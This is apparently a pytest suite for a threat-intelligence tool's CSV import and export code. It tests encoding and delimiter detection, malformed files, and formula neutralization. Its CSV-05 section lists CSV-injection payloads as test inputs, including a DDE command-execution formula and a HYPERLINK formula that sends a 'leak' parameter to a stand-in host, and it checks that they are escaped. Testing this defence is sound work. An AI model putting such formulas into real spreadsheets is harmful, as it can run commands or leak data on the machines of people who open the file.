"""CSV in (encodings, delimiters, headers, broken files) and CSV/JSON out (formula neutralization)."""

from __future__ import annotations

import codecs
import csv
import io
import json
import zipfile

import pytest

from conftest import FIXTURES_DIR, shared_path
from otc.csvio import (
    Table,
    detect_delimiter,
    detect_indicator_column,
    neutralize_cell,
    read_table,
    to_csv_bytes,
    to_json_bytes,
)
from otc.errors import InputError

CSV_FIXTURES = FIXTURES_DIR / "csv"
BOM = codecs.BOM_UTF8


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


# -- CSV-01: UTF-8 BOM ------------------------------------------------------------------------------
@pytest.mark.parametrize("header", [b"indicator,comment", b'"indicator","comment"'], ids=["CSV-01-plain", "CSV-01-quoted"])
def test_CSV_01_utf8_bom_header_is_clean(header):
    table = read_table(BOM + header + b"\n198.51.100.7,test\nexample.com,test\n")
    assert table.columns == ("indicator", "comment")
    assert table.rows == (("198.51.100.7", "test"), ("example.com", "test"))
    assert table.has_header is True
    assert table.encoding == "utf-8-sig"
    assert detect_indicator_column(table) == "indicator"


def test_CSV_01_header_names_lose_stray_quotes_spaces_and_zero_width():
    table = read_table(" 'indicator' ;\u200b comment \n1.2.3.4;x\n".encode("utf-8"))
    assert table.columns == ("indicator", "comment")


def test_utf8_without_bom():
    table = read_table("indicator,comment\nmünchen.de,IDN\n".encode("utf-8"))
    assert table.encoding == "utf-8"
    assert table.rows == (("münchen.de", "IDN"),)


# -- CSV-02: Excel's UTF-16 "Unicode Text" and Windows-1252 ---------------------------------------------
@pytest.mark.parametrize(
    ("data", "encoding", "delimiter", "rows"),
    [
        ((CSV_FIXTURES / "excel_unicode_text.txt").read_bytes(), "utf-16-le", "\t",
         (("münchen.de", "IDN"), ("198.51.100.7", "x"))),
        ((CSV_FIXTURES / "excel_western_cp1252.csv").read_bytes(), "cp1252", ",",
         (("münchen.de", "IDN"), ("198.51.100.7", "Straße"))),
        (codecs.BOM_UTF16_BE + "indicator\tcomment\r\nmünchen.de\tIDN\r\n".encode("utf-16-be"), "utf-16-be", "\t",
         (("münchen.de", "IDN"),)),
        ("indicator,comment\r\nexample.com,x\r\n".encode("utf-16-le"), "utf-16-le", ",", (("example.com", "x"),)),
    ],
    ids=["CSV-02-excel-unicode-text-utf16le-bom-tab", "CSV-02-excel-csv-cp1252", "CSV-02-utf16be-bom",
         "CSV-02-utf16-without-bom"],
)
def test_CSV_02_excel_encodings(data, encoding, delimiter, rows):
    table = read_table(data, "iocs.csv")
    assert (table.encoding, table.delimiter) == (encoding, delimiter)
    assert table.columns == ("indicator", "comment")
    assert table.rows == rows


def test_CSV_02_cp1252_file_really_has_byte_fc_and_is_noted():
    data = (CSV_FIXTURES / "excel_western_cp1252.csv").read_bytes()
    assert b"m\xfcnchen.de" in data
    assert any("Windows-1252" in note for note in read_table(data).notes)


@pytest.mark.parametrize("data", [codecs.BOM_UTF16_LE + "indicator\n".encode("utf-16-le") + b"\x00\xd8"],
                         ids=["CSV-02-damaged-utf16-lone-surrogate"])
def test_CSV_02_damaged_utf16_asks_for_utf8_not_a_decode_error(data):
    with pytest.raises(InputError) as caught:
        read_table(data)
    assert "UTF-8" in str(caught.value)
    assert not isinstance(caught.value, UnicodeDecodeError)


def test_multibyte_encoding_is_detected_not_read_as_windows_1252():
    data = "indicator,comment\r\nexample.jp,テスト用のコメントです\r\n例え.jp,日本語のドメイン名\r\n".encode("shift_jis")
    table = read_table(data)
    assert table.rows[1] == ("例え.jp", "日本語のドメイン名")


# -- CSV-03 and other delimiters -----------------------------------------------------------------------
@pytest.mark.parametrize("data", [b'indicator;comment\n198.51.100.7;"seen 1,5 times"\nexample.com;ok\n'],
                         ids=["CSV-03-semicolon-delimiter"])
def test_CSV_03_semicolon_with_comma_inside_quoted_comment(data):
    table = read_table(data)
    assert table.delimiter == ";"
    assert table.columns == ("indicator", "comment")
    assert table.rows == (("198.51.100.7", "seen 1,5 times"), ("example.com", "ok"))


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "pipe"])
def test_each_delimiter_is_detected(delimiter):
    text = delimiter.join(["ioc", "note", "seen"]) + "\n" + delimiter.join(["1.2.3.4", "a b", "3"]) + "\n"
    table = read_table(text.encode())
    assert table.delimiter == delimiter
    assert table.columns == ("ioc", "note", "seen")


def test_comma_file_with_semicolons_in_comments_stays_comma():
    text = "indicator,comment\n1.2.3.4,seen; twice\n5.6.7.8,ok\nexample.com,a;b;c\n"
    assert detect_delimiter(text) == ","


def test_single_column_list_without_header():
    table = read_table(b"1.2.3.4\nexample.com\n\"evil.example.org\"\nhttps://example.com/a,b\n")
    assert table.delimiter == ""
    assert table.has_header is False
    assert table.columns == ("column_1",)
    assert [r[0] for r in table.rows] == ["1.2.3.4", "example.com", "evil.example.org", "https://example.com/a,b"]


def test_single_column_list_with_header():
    table = read_table(b"ioc\r\n1.2.3.4\r\nexample.com\r\n")
    assert (table.columns, table.has_header, len(table.rows)) == (("ioc",), True, 2)


# -- header or not ------------------------------------------------------------------------------------
def test_first_row_that_is_an_indicator_is_data():
    table = read_table(b"198.51.100.7,first\nexample.com,second\n")
    assert table.has_header is False
    assert table.columns == ("column_1", "column_2")
    assert table.rows[0] == ("198.51.100.7", "first")
    assert detect_indicator_column(table) == "column_1"


def test_missing_and_duplicate_header_names_are_made_unique():
    table = read_table(b"indicator,,comment,comment\n1.2.3.4,a,b,c\n")
    assert table.columns == ("indicator", "column_2", "comment", "comment_2")
    assert any("comment_2" in note for note in table.notes)


# -- ragged rows, blank lines, quoted newlines ------------------------------------------------------------
def test_ragged_rows_are_padded_and_extra_cells_kept():
    table = read_table(b"indicator,comment\n1.2.3.4\n5.6.7.8,x,extra\nexample.com,y\n")
    assert table.columns == ("indicator", "comment", "column_3")
    assert table.rows == (("1.2.3.4", "", ""), ("5.6.7.8", "x", "extra"), ("example.com", "y", ""))
    assert any("more cells than the header" in note for note in table.notes)


def test_blank_lines_are_skipped_with_a_note_and_empty_cells_kept():
    table = read_table(b"indicator,comment\r\n1.2.3.4,a\r\n\r\n,\r\nexample.com,b\r\n")
    assert table.rows == (("1.2.3.4", "a"), ("", ""), ("example.com", "b"))
    assert any("1 blank line" in note for note in table.notes)


def test_quoted_cell_with_newline_stays_one_cell():
    table = read_table(b'indicator,comment\n1.2.3.4,"two\nlines"\n')
    assert table.rows == (("1.2.3.4", "two\nlines"),)


# -- files that are not a CSV: plain messages -------------------------------------------------------
def _xlsx_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty"),
        (BOM, "The file is empty"),
        (b"\r\n  \n", "The file is empty"),
        (codecs.BOM_UTF16_LE + "\r\n".encode("utf-16-le"), "The file is empty"),
        (_xlsx_bytes(), "Excel workbook (.xlsx), not a CSV: open it in Excel and save it as CSV UTF-8"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Excel workbook (.xls), not a CSV"),
        (b"indicator\n1.2\x00.3.4\n\x00\x00\x07\x00", "NUL bytes"),
        (bytes(range(1, 9)) * 50 + b"\n" + bytes(range(14, 31)) * 50, "does not look like a text file"),
        (b"<html><body><table><tr><td>1.2.3.4</td></tr></table></body></html>", "web page (HTML)"),
        (b"%PDF-1.7\n...", "PDF"),
        (b"\x1f\x8b\x08\x00rest", "compressed archive"),
        (b"indicator,comment\n", "header row (indicator, comment) but no data rows"),
    ],
    ids=["empty", "bom-only", "whitespace-only", "utf16-blank", "xlsx-renamed", "xls-renamed", "nul-bytes",
         "binary", "html-as-xls", "pdf", "gzip", "header-only"],
)
def test_unusable_files_raise_input_error_with_a_plain_message(data, message):
    with pytest.raises(InputError) as caught:
        read_table(data, "upload.csv")
    assert message in str(caught.value)
    assert str(caught.value).startswith("upload.csv: ")


# 0x81 0x8D 0x8F 0x90 0x9D are undefined in Windows-1252.
UNDEFINED_IN_CP1252 = b"indicator\n\x81\x8d\x8f\x90\x9d.example\n"


@pytest.mark.parametrize("data", [UNDEFINED_IN_CP1252], ids=["CSV-02-not-cp1252-detector"])
def test_CSV_02_bytes_windows_1252_cannot_read_go_to_the_detector(data):
    table = read_table(data)
    assert table.rows[0][0].endswith(".example")
    assert table.encoding not in ("utf-8", "cp1252")


@pytest.mark.parametrize("data", [UNDEFINED_IN_CP1252], ids=["CSV-02-undecodable"])
def test_CSV_02_undecodable_file_asks_for_utf8(monkeypatch, data):
    import otc.csvio

    monkeypatch.setattr(otc.csvio, "_charset_guess", lambda data: None)
    with pytest.raises(InputError) as caught:
        read_table(data, "iocs.csv")
    assert str(caught.value) == ("iocs.csv: The file's text encoding could not be recognised: save it as CSV UTF-8 "
                                 "and upload again")


# -- indicator column detection ------------------------------------------------------------------------
def test_indicator_column_is_the_one_with_most_indicators():
    table = Table(("note", "seen_at", "address"), (("hello", "x", "1.2.3.4"), ("example.com", "y", "5.6.7.8"),
                                                  ("", "", "9.9.9.9")), "utf-8", ",", True)
    assert detect_indicator_column(table) == "address"


def test_indicator_column_tie_prefers_a_telling_name():
    table = Table(("backup", "IOC"), (("1.2.3.4", "5.6.7.8"), ("example.com", "example.org")), "utf-8", ",", True)
    assert detect_indicator_column(table) == "IOC"


def test_indicator_column_of_the_analyst_file():
    table = read_table(shared_path("iocs", "analyst_iocs.csv").read_bytes())
    assert table.columns == ("indicator", "type", "source", "comment")
    assert len(table.rows) == 217
    assert detect_indicator_column(table) == "indicator"


# -- CSV-05: formula neutralization on export -----------------------------------------------------------
CSV_05_VALUES = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.test/?leak=1","Click")', "+1+1", "-2+3",
                 "@SUM(1,1)", "\tleading-tab", "\rleading-cr", "=1+1"]


@pytest.mark.parametrize("value", CSV_05_VALUES, ids=[f"CSV-05-{n}" for n in range(len(CSV_05_VALUES))])
def test_CSV_05_dangerous_text_is_neutralized_and_quoted(value):
    assert neutralize_cell(value) == "'" + value
    data = to_csv_bytes(["comment"], [[value]])
    assert read_back(data) == [["comment"], ["'" + value]]
    body = data[len(BOM):].decode("utf-8")
    assert body.split("\r\n", 1)[1].startswith("\"'")  # quoted, and the quote is followed by the '


@pytest.mark.parametrize("value", ["198.51.100.7", "2001:db8::1", "::ffff:1.2.3.4", "example.com", "xn--mnchen-3ya.de",
                                   "098f6bcd4621d373cade4e832627b4f6", "https://example.com/login?a=1", "AS15169",
                                   "user@example.com", "10.0.0.0/8"])
def test_CSV_05_indicator_values_are_unchanged(value):
    assert neutralize_cell(value) == value
    assert read_back(to_csv_bytes(["indicator"], [{"indicator": value}]))[1] == [value]


@pytest.mark.parametrize("longitude", [-122.5], ids=["CSV-05-negative-number-stays-number"])
def test_CSV_05_numbers_stay_numbers_and_text_is_quoted(longitude):
    data = to_csv_bytes(["otc_score", "otc_longitude", "otc_latitude", "note", "flag", "missing"],
                        [[87, longitude, -33.9, "-5", True, None]])
    line = data[len(BOM):].decode("utf-8").split("\r\n")[1]
    assert line == "87,-122.5,-33.9,\"'-5\",\"true\",\"\""


def test_CSV_05_header_from_the_input_is_neutralized_too():
    assert read_back(to_csv_bytes(["=cmd", "ok"], []))[0] == ["'=cmd", "ok"]


def test_lists_and_mappings_become_one_neutralized_cell():
    assert neutralize_cell(["=1+1", "x"]) == "'=1+1, x"
    assert neutralize_cell({"b": 1, "a": "x"}) == '{"a": "x", "b": 1}'
    assert neutralize_cell(None) == ""
    assert neutralize_cell(float("nan")) == ""


def test_csv_export_is_utf8_with_bom_so_excel_shows_accents():
    data = to_csv_bytes(["indicator", "display"], [["xn--mnchen-3ya.de", "münchen.de"]])
    assert data.startswith(BOM)
    assert "münchen.de".encode("utf-8") in data


def test_json_export_keeps_types_and_unicode():
    records = [{"otc_score": 5, "display": "münchen.de", "lat": float("nan"), "ok": True, "none": None}]
    assert json.loads(to_json_bytes(records).decode("utf-8")) == [
        {"otc_score": 5, "display": "münchen.de", "lat": None, "ok": True, "none": None}
    ]
    assert "münchen.de".encode("utf-8") in to_json_bytes(records)


def test_round_trip_of_a_read_table_through_export():
    table = read_table(b'indicator;comment\n198.51.100.7;"seen 1,5 times"\n')
    back = read_back(to_csv_bytes(table.columns, table.rows))
    assert back == [["indicator", "comment"], ["198.51.100.7", "seen 1,5 times"]]
